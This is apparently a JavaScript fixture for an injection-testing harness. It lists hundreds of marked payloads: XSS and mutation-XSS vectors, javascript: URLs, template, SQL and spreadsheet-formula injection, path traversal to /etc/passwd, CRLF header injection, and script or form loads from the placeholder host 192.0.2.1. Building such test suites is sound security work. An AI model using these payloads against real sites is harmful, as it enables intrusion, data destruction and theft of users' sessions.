// Words that try to be more than words. MARK becomes a marker of its own for each field, so that whatever a page makes
// of them can be told from the page itself.

/** What makes elements, attributes or addresses where it is not written out as text. */
export const MARKUP = [
  // Scripts as they are, in odd spellings, and cut short.
  `<script id="MARK">alert("MARK")</script>`,
  `<ScRiPt id=MARK>alert(1)</sCrIpT>`,
  `<script id=MARK src="//192.0.2.1/MARK.js"></script>`,
  `</script><script id="MARK">alert(1)</script>`,
  `<scr<script id="MARK">ipt>alert(1)</scr</script>ipt>`,
  `<script/MARK/id="MARK">alert(1)//`,
  `<script\tid="MARK"\n>alert(1)</script\n>`,
  `<<script id="MARK">>alert(1)<</script>>`,
  `<script type="module" id="MARK">import "//192.0.2.1/MARK"</script>`,
  `<noscript id="MARK"><img src=x onerror=alert(1)></noscript>`,
  // Elements that run something by themselves.
  `<img id="MARK" src="MARK.png" onerror="alert(1)">`,
  `<img/id=MARK/src=x/onerror=alert(1)>`,
  `<IMG ID=MARK SRC=x ONERROR=&#97;lert(1)>`,
  `<image id="MARK" src="x" onerror="alert(1)">`,
  `<video id="MARK" src="MARK" onerror="alert(1)"></video>`,
  `<audio id="MARK" autoplay onplay="alert(1)"><source src=x onerror=alert(1)></audio>`,
  `<body id="MARK" onload="alert(1)">`,
  `<details id="MARK" open ontoggle="alert(1)"><summary>MARK</summary></details>`,
  `<input id="MARK" autofocus onfocus="alert(1)">`,
  `<select id="MARK" autofocus onfocus="alert(1)"><option>MARK</select>`,
  `<textarea id="MARK" autofocus onfocus="alert(1)">MARK</textarea>`,
  `<marquee id="MARK" onstart="alert(1)">MARK</marquee>`,
  `<div id="MARK" style="animation-name:x" onanimationstart="alert(1)">MARK</div>`,
  `<p id="MARK" onmouseover="alert(1)" style="position:fixed;inset:0">MARK</p>`,
  `<x-MARK id="MARK" tabindex="1" onfocusin="alert(1)">MARK</x-MARK>`,
  `<button id="MARK" popovertarget="MARK" onclick="alert(1)">MARK</button>`,
  // Pictures and formulas that may hold scripts.
  `<svg id="MARK" onload="alert(1)">`,
  `<svg id="MARK"><script>alert("MARK")</script></svg>`,
  `<svg id="MARK"><a xlink:href="javascript:alert(1)"><text y="9">MARK</text></a></svg>`,
  `<svg id="MARK"><animate attributeName="href" values="javascript:alert(1)" onbegin="alert(1)"/></svg>`,
  `<svg id="MARK"><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>`,
  `<svg id="MARK"><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>`,
  `<math id="MARK"><maction actiontype="statusline" xlink:href="javascript:alert(1)">MARK</maction></math>`,
  // What changes its shape when it is read a second time.
  `<math id="MARK"><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<svg id="MARK"></p><style><a title="</style><img src=x onerror=alert(1)>">`,
  `<form id="MARK"><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<select id="MARK"><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">`,
  `<noembed id="MARK"><img title="</noembed><img src onerror=alert(1)>"></noembed>`,
  `<xmp id="MARK"><p title="</xmp><svg/onload=alert(1)>"></xmp>`,
  `<listing id="MARK">&lt;img src=x onerror=alert(1)&gt;</listing>`,
  `<template id="MARK"><script>alert(1)</script></template>`,
  // Frames, forms and heads.
  `<iframe id="MARK" src="javascript:alert(1)"></iframe>`,
  `<iframe id="MARK" srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>`,
  `<object id="MARK" data="javascript:alert(1)"></object>`,
  `<embed id="MARK" src="data:text/html,MARK">`,
  `<base id="MARK" href="//192.0.2.1/MARK/">`,
  `<meta id="MARK" http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<link id="MARK" rel="stylesheet" href="//192.0.2.1/MARK.css">`,
  `<style id="MARK">*{background:url(//192.0.2.1/MARK)}</style>`,
  `<form id="MARK" action="//192.0.2.1/MARK"><button>Save</button></form>`,
  `<isindex id="MARK" type="image" src="x" onerror="alert(1)">`,
  `<dialog id="MARK" open>MARK<form method="dialog"><button>Close</button></form></dialog>`,
  // The way out of what stands around it.
  `"><img id="MARK" src=x onerror=alert(1)>`,
  `'><svg id='MARK' onload='alert(1)'>`,
  `" autofocus onfocus="alert(1)" data-MARK="`,
  `" style="position:fixed;inset:0" onmouseover="alert(1)" class="MARK`,
  `</textarea><script id="MARK">alert(1)</script>`,
  `</title><script id="MARK">alert(1)</script>`,
  `</option></select><img id="MARK" src=x onerror=alert(1)>`,
  `--><img id="MARK" src=x onerror=alert(1)><!-- MARK`,
  `]]><img id="MARK" src=x onerror=alert(1)>`,
  `</dd></dl></main><h1 id="MARK">MARK</h1>`,
  `<a id="MARK" href="/MARK" target="_blank" ping="//192.0.2.1/MARK">MARK</a>`,
  `<!--MARK--><b id="MARK">MARK</b>`,
  `<?xml version="1.0"?><b id="MARK">MARK</b>`,
  // Addresses that run.
  `javascript:alert("MARK")`,
  `JaVaScRiPt:alert('MARK')//`,
  `java\tscript:alert(/MARK/)`,
  `javascript://example.org/%0aalert(/MARK/)`,
  `data:text/html,<script id="MARK">alert(1)</script>`,
  `vbscript:msgbox("MARK")`,
];

/** What means something to others who read the words: templates, sheets, writers of marks, and eyes. */
export const WORDS = [
  "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %> MARK",
  "{{constructor.constructor('alert(1)')()}} MARK",
  "[MARK](javascript:alert(1)) ![MARK](x onerror=alert(1)) <javascript:alert(1)>",
  "# MARK\n\n```html\n<img id=\"MARK\" src=x onerror=alert(1)>\n```",
  '=HYPERLINK("http://192.0.2.1/MARK","MARK")',
  "+MARK+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0 MARK",
  "-2+3+MARK",
  "\tMARK\t=1+1",
  "MARK \u202eevil\u202c \u2067right\u2069 \u200f\u200emark",
  "MA\u200bRK MARK \u200d\u2060\ufeff\u00ad",
  "MARK \u0301\u0302\u0303\u0304\u0305\u0306 \ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67 \u0130\u0131\u1e9e",
  "MARK %3Cscript%3Ealert(1)%3C/script%3E &lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;",
  "MARK'; DROP TABLE node; -- \" OR 1=1",
  "../../../../etc/passwd%2e%2e/MARK\\..\\..",
  "MARK\r\nSet-Cookie: MARK=1\r\n\r\n<html>",
  "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e MARK \u2028 \u2029",
];

/** Every shape of them all. */
export const PAYLOADS = [...MARKUP, ...WORDS];

/** What marks the words put into a field: which of them, and which field. */
export const MARKER = /zx(\d+)q(\d+)z/g;

/** One of them, for one field. */
export function marked(shape, field) {
  return PAYLOADS[shape].replaceAll("MARK", `zx${shape}q${field}z`);
}
